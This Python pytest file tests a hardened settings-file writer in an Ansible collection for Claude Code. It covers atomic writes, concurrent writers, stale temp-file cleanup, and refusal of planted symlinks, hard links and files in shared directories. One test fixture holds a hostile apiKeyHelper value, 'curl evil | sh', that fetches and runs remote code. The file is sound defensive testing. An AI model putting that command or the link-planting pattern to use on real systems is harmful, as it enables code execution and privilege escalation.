# Copyright: (c) 2026, devfleet.claude_code contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import fcntl
import json
import os
import random
import signal
import stat
import time

import pytest

from ansible_collections.devfleet.claude_code.plugins.module_utils import _fs
from ansible_collections.devfleet.claude_code.plugins.module_utils._fs import (
    ManagedFile,
    UnsafePathError,
    locate,
    parse_mode,
    read_file,
)

NOBODY = 65534
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason='needs root to make directories owned by another user')


def untrusted(path):
    """Make a directory that a user other than root owns, like a home directory."""
    os.chown(str(path), NOBODY, NOBODY)
    os.chmod(str(path), 0o755)
    return path


@pytest.fixture
def home(tmp_path):
    path = tmp_path / 'home'
    path.mkdir()
    return untrusted(path)


def managed(path, mode=0o600):
    return ManagedFile(str(path), mode)


def append_render(line):
    def render(data):
        return (data or b'') + line
    return render


def test_creates_file_and_directories(tmp_path):
    target = tmp_path / 'a' / 'b' / 'settings.json'
    result = ManagedFile(str(target), 0o640, dir_mode=0o750).update(lambda data: b'{}\n')
    assert result['changed'] and result['content_changed']
    assert target.read_bytes() == b'{}\n'
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / 'a').stat().st_mode) == 0o750
    assert result['created_dirs'] == [str(tmp_path / 'a'), str(tmp_path / 'a' / 'b')]


def test_no_change_leaves_file_untouched(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'same\n')
    os.chmod(str(target), 0o600)
    os.utime(str(target), (1000000000, 1000000000))
    result = managed(target).update(lambda data: data)
    assert not result['changed']
    assert target.stat().st_mtime == 1000000000
    assert os.listdir(str(tmp_path)) == ['settings.json']


def test_render_none_means_no_change(tmp_path):
    result = managed(tmp_path / 'missing.json').update(lambda data: None)
    assert not result['changed']
    assert not (tmp_path / 'missing.json').exists()


def test_check_mode_writes_nothing(tmp_path):
    target = tmp_path / 'dir' / 'settings.json'
    result = managed(target).update(lambda data: b'x', check_mode=True)
    assert result['changed'] and result['after'] == b'x' and result['before'] is None
    assert not (tmp_path / 'dir').exists()


def test_mode_fixed_without_rewrite(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'x')
    os.chmod(str(target), 0o644)
    inode = target.stat().st_ino
    result = managed(target).update(lambda data: data)
    assert result['changed'] and result['attributes_changed'] and not result['content_changed']
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.stat().st_ino == inode


def test_rewrite_replaces_inode_atomically_and_cleans_up(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'old')
    inode = target.stat().st_ino
    managed(target).update(lambda data: b'new')
    assert target.read_bytes() == b'new'
    assert target.stat().st_ino != inode
    assert sorted(os.listdir(str(tmp_path))) == ['settings.json']


def test_concurrent_writer_is_not_lost(tmp_path):
    """Another program writes the file between our read and our rename: its content is kept."""
    target = tmp_path / 'settings.json'
    target.write_bytes(b'A\n')
    calls = []

    def render(data):
        calls.append(data)
        if len(calls) == 1:
            target.write_bytes(b'A\nB-from-claude\n')  # the concurrent write, after our first read
        return data + b'C-ours\n'

    result = managed(target).update(render)
    assert calls == [b'A\n', b'A\nB-from-claude\n']
    assert target.read_bytes() == b'A\nB-from-claude\nC-ours\n'
    assert result['before'] == b'A\nB-from-claude\n'


def test_backup_keeps_old_content(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'old')
    result = managed(target).update(lambda data: b'new', backup=True)
    backup = result['backup_file']
    assert backup and backup.startswith(str(target) + '.') and backup.endswith('~')
    with open(backup, 'rb') as handle:
        assert handle.read() == b'old'
    assert stat.S_IMODE(os.stat(backup).st_mode) == 0o600


def test_remove(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'x')
    assert managed(target).remove(check_mode=True)['changed']
    assert target.exists()
    assert managed(target).remove()['changed']
    assert not target.exists()
    assert not managed(target).remove()['changed']


def test_fifo_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / 'settings.json'
    os.mkfifo(str(fifo))
    with pytest.raises(UnsafePathError, match='not a regular file'):
        managed(fifo).update(lambda data: b'x')


def test_file_in_place_of_directory(tmp_path):
    (tmp_path / '.claude').write_bytes(b'')
    with pytest.raises(UnsafePathError, match='is not a directory'):
        managed(tmp_path / '.claude' / 'settings.json').update(lambda data: b'x')


def test_trusted_symlinks_are_followed(tmp_path):
    real = tmp_path / 'real'
    real.mkdir()
    (tmp_path / 'link').symlink_to('real')
    (real / 'file.json').write_bytes(b'1')
    (real / 'alias.json').symlink_to('file.json')
    result = managed(tmp_path / 'link' / 'alias.json').update(lambda data: b'2')
    assert result['path'] == str(real / 'file.json')
    assert (real / 'file.json').read_bytes() == b'2'
    assert (real / 'alias.json').is_symlink()


@needs_root
def test_symlinked_directory_planted_by_user_is_refused(tmp_path, home):
    victim = tmp_path / 'etc'
    victim.mkdir()
    (home / '.claude').symlink_to(str(victim))
    with pytest.raises(UnsafePathError, match=r'\.claude is a symlink .* refusing to follow it'):
        managed(home / '.claude' / 'settings.json').update(lambda data: b'x')
    assert os.listdir(str(victim)) == []


@needs_root
def test_symlinked_file_planted_by_user_is_refused(tmp_path, home):
    victim = tmp_path / 'shadow'
    victim.write_bytes(b'root:secret\n')
    (home / 'settings.json').symlink_to(str(victim))
    with pytest.raises(UnsafePathError, match='refusing to follow it'):
        managed(home / 'settings.json').update(lambda data: b'x')
    assert victim.read_bytes() == b'root:secret\n'
    with pytest.raises(UnsafePathError):
        read_file(str(home / 'settings.json'))


@needs_root
def test_hard_link_planted_by_user_is_refused(tmp_path, home):
    victim = tmp_path / 'secret.json'
    victim.write_bytes(b'{"token": "root only"}')
    os.link(str(victim), str(home / 'settings.json'))
    with pytest.raises(UnsafePathError, match='2 hard links'):
        managed(home / 'settings.json').update(lambda data: data + b' ')
    assert victim.read_bytes() == b'{"token": "root only"}'


@needs_root
def test_sticky_directory_links(tmp_path):
    sticky = tmp_path / 'tmp'
    sticky.mkdir()
    os.chmod(str(sticky), 0o1777)
    (tmp_path / 'real').mkdir()
    (sticky / 'mine').symlink_to(str(tmp_path / 'real'))
    assert managed(sticky / 'mine' / 'f').update(lambda data: b'x')['changed']
    (sticky / 'theirs').symlink_to(str(tmp_path / 'real'))
    os.lchown(str(sticky / 'theirs'), NOBODY, NOBODY)
    with pytest.raises(UnsafePathError, match='writable by every user'):
        managed(sticky / 'theirs' / 'g').update(lambda data: b'x')


@needs_root
def test_new_files_and_directories_belong_to_the_user(tmp_path, home):
    target = home / '.claude' / 'settings.json'
    ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: b'{}')
    for path in (home / '.claude', target):
        st = path.stat()
        assert (st.st_uid, st.st_gid) == (NOBODY, NOBODY)
    assert stat.S_IMODE((home / '.claude').stat().st_mode) == 0o700


def test_other_owner_needs_root(tmp_path, monkeypatch):
    monkeypatch.setattr(_fs.os, 'geteuid', lambda: 1000)
    with pytest.raises(UnsafePathError, match='run the task with become: true'):
        ManagedFile(str(tmp_path / 'f'), 0o600, 1001, 1001).update(lambda data: b'x')


def test_relative_path_refused():
    with pytest.raises(UnsafePathError, match='not an absolute path'):
        locate('relative/settings.json')


def test_symlink_loop(tmp_path):
    (tmp_path / 'a').symlink_to('b')
    (tmp_path / 'b').symlink_to('a')
    with pytest.raises(UnsafePathError, match='too many levels'):
        managed(tmp_path / 'a' / 'f').update(lambda data: b'x')


@pytest.mark.parametrize('value, expected', [('0600', 0o600), ('644', 0o644), (0o640, 0o640), (None, None)])
def test_parse_mode(value, expected):
    assert parse_mode(value) == expected


@pytest.mark.parametrize('value', ['rw-r--r--', 'u+rw', 600 * 100, '99'])
def test_parse_mode_rejects(value):
    with pytest.raises(ValueError):
        parse_mode(value)


# --- hardening (issue 11): temporary files, concurrent writers, shared directories --------------------------

def temp_files(directory):
    return sorted(name for name in os.listdir(str(directory)) if name.endswith('.tmp'))


def exchange_hook(monkeypatch, before_exchange):
    """Run before_exchange(call number) just before each atomic exchange of ManagedFile."""
    real = _fs._RENAMER.exchange
    calls = []

    def exchange(dir_fd, src, dst):
        calls.append(src)
        before_exchange(len(calls))
        return real(dir_fd, src, dst)
    monkeypatch.setattr(_fs._RENAMER, 'exchange', exchange)
    return calls


def atomic_write(path, data):
    tmp = str(path) + '.other-program'
    with open(tmp, 'wb') as handle:
        handle.write(data)
    os.replace(tmp, str(path))


def test_renameat2_exchanges_through_libc_and_raw_syscall(tmp_path):
    for renamer in (_fs._Renamer(), _fs._Renamer(use_wrapper=False)):
        (tmp_path / 'a').write_bytes(b'A')
        (tmp_path / 'b').write_bytes(b'B')
        fd = os.open(str(tmp_path), os.O_RDONLY)
        try:
            assert renamer.exchange(fd, 'a', 'b')
            assert renamer.noreplace(fd, 'a', 'c')
            with pytest.raises(FileExistsError):
                renamer.noreplace(fd, 'c', 'b')
        finally:
            os.close(fd)
        assert (tmp_path / 'b').read_bytes() == b'A' and (tmp_path / 'c').read_bytes() == b'B'
        for name in ('b', 'c'):
            (tmp_path / name).unlink()


def test_write_just_before_the_exchange_is_merged(tmp_path, monkeypatch):
    """A program that renames its version in microseconds before ours: its key is kept (it comes out of the exchange)."""
    target = tmp_path / 'settings.json'
    target.write_bytes(b'A\n')
    exchange_hook(monkeypatch, lambda n: n == 1 and atomic_write(target, b'A\nB-theirs\n'))
    result = managed(target).update(append_render(b'C-ours\n'))
    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
    assert result['before'] == b'A\nB-theirs\n' and result['after'] == b'A\nB-theirs\nC-ours\n'
    assert temp_files(tmp_path) == []


def test_in_place_write_just_before_the_exchange_is_merged(tmp_path, monkeypatch):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'A\n')
    exchange_hook(monkeypatch, lambda n: n == 1 and target.write_bytes(b'A\nB-theirs\n'))
    managed(target).update(append_render(b'C-ours\n'))
    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
    assert temp_files(tmp_path) == []


def test_fallback_without_exchange_still_checks_just_before_the_rename(tmp_path, monkeypatch):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'A\n')
    monkeypatch.setattr(_fs._RENAMER, 'call', None)
    real = _fs._unchanged
    checks = []

    def unchanged(loc, state):
        checks.append(state)
        if len(checks) == 1:  # the other program writes just before our check
            atomic_write(target, b'A\nB-theirs\n')
        return real(loc, state)
    monkeypatch.setattr(_fs, '_unchanged', unchanged)
    managed(target).update(append_render(b'C-ours\n'))
    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
    assert temp_files(tmp_path) == []


def test_endless_concurrent_writes_fail_clearly_and_keep_theirs(tmp_path, monkeypatch):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'v0\n')
    written = []

    def write_before_each_new_temp_goes_in(n):
        if calls[-1] not in calls[:-1]:  # not the exchange that puts their version back
            written.append(b'v%d\n' % n)
            atomic_write(target, written[-1])
    calls = exchange_hook(monkeypatch, write_before_each_new_temp_goes_in)
    with pytest.raises(UnsafePathError, match='kept changing while being written'):
        managed(target).update(append_render(b'ours\n'))
    assert len(written) == _fs._MAX_WRITE_ATTEMPTS
    assert target.read_bytes() == written[-1]  # their last version, not ours on top of an old one
    assert temp_files(tmp_path) == []


def fake_reads(monkeypatch, first_contents):
    """The first reads of the target see first_contents (a file being rewritten in place), then the real file."""
    real = _fs.read_at
    queue = list(first_contents)

    def read_at(loc, max_size=_fs.MAX_FILE_SIZE):
        state = real(loc, max_size)
        if queue and state is not None:
            data = queue.pop(0)
            return state._replace(data=data, ctime_ns=len(queue))
        return state
    monkeypatch.setattr(_fs, 'read_at', read_at)


@pytest.mark.parametrize('seen', [[b''], [b'', b'{"a": 1'], [b'{"a"']], ids=['empty', 'empty-then-partial', 'partial'])
def test_empty_or_partial_read_of_a_changing_file_is_retried(tmp_path, monkeypatch, seen):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'{"a": 1}')
    fake_reads(monkeypatch, seen)
    calls = []

    def render(data):
        calls.append(data)
        value = json.loads(data or b'{}')  # empty counts as {} here, as it does for settings files
        value['b'] = 2
        return json.dumps(value).encode()
    managed(target).update(render)
    assert json.loads(target.read_bytes()) == {'a': 1, 'b': 2}


def test_empty_file_that_holds_still_is_used(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'')
    managed(target).update(lambda data: data + b'x')
    assert target.read_bytes() == b'x'


def test_invalid_file_that_holds_still_is_an_error_and_untouched(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'{"a"')

    def render(data):
        raise ValueError('not valid JSON')
    with pytest.raises(ValueError, match='not valid JSON'):
        managed(target).update(render)
    assert target.read_bytes() == b'{"a"' and temp_files(tmp_path) == []


def test_file_that_never_holds_still_is_an_error(tmp_path, monkeypatch):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'{}')
    fake_reads(monkeypatch, [b''] * 100)
    monkeypatch.setattr(_fs, '_SETTLE_PAUSE', 0)
    with pytest.raises(UnsafePathError, match='kept changing'):
        managed(target).update(lambda data: data + b'x')
    assert target.read_bytes() == b'{}'


def write_stale(directory, name='settings.json', uid=None, content=b'{"token": "sk-ant-stale"}'):
    path = directory / ('.%s.%s.tmp' % (name, '0123456789ab'))
    path.write_bytes(content)
    if uid is not None:
        os.chown(str(path), uid, uid)
    return path


def test_stale_temp_file_of_a_killed_run_is_removed(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'x')
    os.chmod(str(target), 0o600)
    stale = write_stale(tmp_path)
    unrelated = tmp_path / '.other.json.0123456789ab.tmp'
    unrelated.write_bytes(b'not ours')
    result = managed(target).update(lambda data: data)  # no change: housekeeping still happens
    assert not result['changed'] and result['stale_removed'] == [str(stale)]
    assert not stale.exists() and unrelated.exists()
    assert managed(target).update(lambda data: data, check_mode=True)['stale_removed'] == []


def test_remove_also_removes_stale_temp_files(tmp_path):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'x')
    stale = write_stale(tmp_path)
    assert managed(target).remove()['stale_removed'] == [str(stale)]
    assert os.listdir(str(tmp_path)) == []


def test_temp_file_of_a_live_writer_is_kept(tmp_path):
    """A live writer holds a shared lock on the directory: its temporary file is not stale."""
    target = tmp_path / 'settings.json'
    target.write_bytes(b'x')
    live = write_stale(tmp_path)
    fd = os.open(str(tmp_path), os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_SH)
        assert managed(target).update(append_render(b'y'))['stale_removed'] == []
        assert live.exists() and target.read_bytes() == b'xy'
    finally:
        os.close(fd)
    managed(target).update(append_render(b'z'))
    assert not live.exists()


@needs_root
def test_stale_temp_file_of_another_owner_is_kept(tmp_path, home):
    target = home / 'settings.json'
    ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: b'x')
    theirs = write_stale(home, uid=NOBODY + 1)
    theirs.rename(home / '.settings.json.ba9876543210.tmp')
    theirs = home / '.settings.json.ba9876543210.tmp'
    ours = write_stale(home, uid=NOBODY)
    ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: data)
    assert theirs.exists() and not ours.exists()


def test_no_temp_files_accumulate_after_kill_9(tmp_path):
    """100 writers killed with SIGKILL at random points; the next run leaves no temporary file of ours."""
    target = tmp_path / 'settings.json'
    target.write_bytes(b'0\n')
    rng = random.Random(11)
    left_by_kills = 0
    for cycle in range(100):
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child is killed
            try:
                for dummy in range(1000):
                    ManagedFile(str(target), 0o600).update(lambda data: data[-2000:] + b'%d\n' % rng.random())
            finally:
                os._exit(0)
        time.sleep(rng.uniform(0, 0.004))
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        assert target.read_bytes().endswith(b'\n')  # old or new content, never a torn one
        result = managed(target).update(append_render(b'%d\n' % cycle))
        left_by_kills += len(result['stale_removed'])
        assert temp_files(tmp_path) == []
    assert left_by_kills > 0  # some kills did hit a write in progress


@needs_root
def test_link_swapped_in_during_the_write_is_put_back_and_nothing_is_left(tmp_path, home, monkeypatch):
    victim = tmp_path / 'shadow'
    victim.write_bytes(b'root:secret\n')
    target = home / 'settings.json'
    target.write_bytes(b'{}')

    def swap(n):
        if n > 1:
            return
        target.unlink()
        target.symlink_to(str(victim))
    exchange_hook(monkeypatch, swap)
    with pytest.raises(UnsafePathError, match='symlink'):
        ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: b'{"token": "sk-ant-x"}')
    assert target.is_symlink() and victim.read_bytes() == b'root:secret\n'
    assert temp_files(home) == []


@needs_root
def test_directory_swapped_in_during_the_write_is_put_back(tmp_path, home, monkeypatch):
    target = home / 'settings.json'
    target.write_bytes(b'{}')

    def swap(n):
        if n > 1:
            return
        target.unlink()
        target.mkdir()
        (target / 'inside').write_bytes(b'keep')
    exchange_hook(monkeypatch, swap)
    with pytest.raises(UnsafePathError, match='not a regular file'):
        managed(target).update(lambda data: b'{"token": "sk-ant-x"}')
    assert (target / 'inside').read_bytes() == b'keep'
    assert temp_files(home) == []


def test_temp_file_removed_when_render_fails_on_a_concurrent_write(tmp_path, monkeypatch):
    target = tmp_path / 'settings.json'
    target.write_bytes(b'ok')

    def render(data):
        if data != b'ok':
            raise ValueError('cannot merge %r' % data)
        return b'ok+ours'
    exchange_hook(monkeypatch, lambda n: atomic_write(target, b'broken'))
    with pytest.raises(ValueError, match='cannot merge'):
        managed(target).update(render)
    assert target.read_bytes() == b'broken'  # theirs, put back; ours was based on a version that is gone
    assert temp_files(tmp_path) == []


@needs_root
def test_file_planted_in_a_shared_directory_is_refused(tmp_path):
    shared = tmp_path / 'tmp'
    shared.mkdir()
    os.chmod(str(shared), 0o1777)
    planted = shared / 'settings.json'
    planted.write_bytes(b'{"apiKeyHelper": "curl evil | sh"}')
    os.chown(str(planted), NOBODY, NOBODY)
    with pytest.raises(UnsafePathError, match='belongs to nobody .* writable by every user'):
        ManagedFile(str(planted), 0o600, NOBODY + 1, NOBODY + 1).update(lambda data: data + b' ')
    assert planted.read_bytes() == b'{"apiKeyHelper": "curl evil | sh"}'
    with pytest.raises(UnsafePathError, match='belongs to nobody'):
        ManagedFile(str(planted), 0o600).remove()
    assert planted.exists()
    # the target user's own file, or root's, is fine there
    assert ManagedFile(str(planted), 0o600, NOBODY, NOBODY).update(lambda data: b'{}')['changed']
    # and a file of another user in a directory only root can write is not "planted"
    private = tmp_path / 'private'
    private.mkdir()
    os.chmod(str(private), 0o755)
    (private / 'settings.json').write_bytes(b'{}')
    os.chown(str(private / 'settings.json'), NOBODY, NOBODY)
    assert ManagedFile(str(private / 'settings.json'), 0o600).update(lambda data: b'{"a": 1}')['changed']


def test_results_come_from_what_was_written(tmp_path, monkeypatch):
    """The outcome describes what this call wrote, even when the file is replaced right after."""
    target = tmp_path / 'settings.json'
    real = _fs._fsync_dir

    def fsync_then_swap(loc):
        real(loc)
        atomic_write(target, b'someone else')
    monkeypatch.setattr(_fs, '_fsync_dir', fsync_then_swap)
    result = ManagedFile(str(target), 0o640).update(lambda data: b'ours')
    assert result['after'] == b'ours' and result['mode'] == 0o640 and result['path'] == str(target)
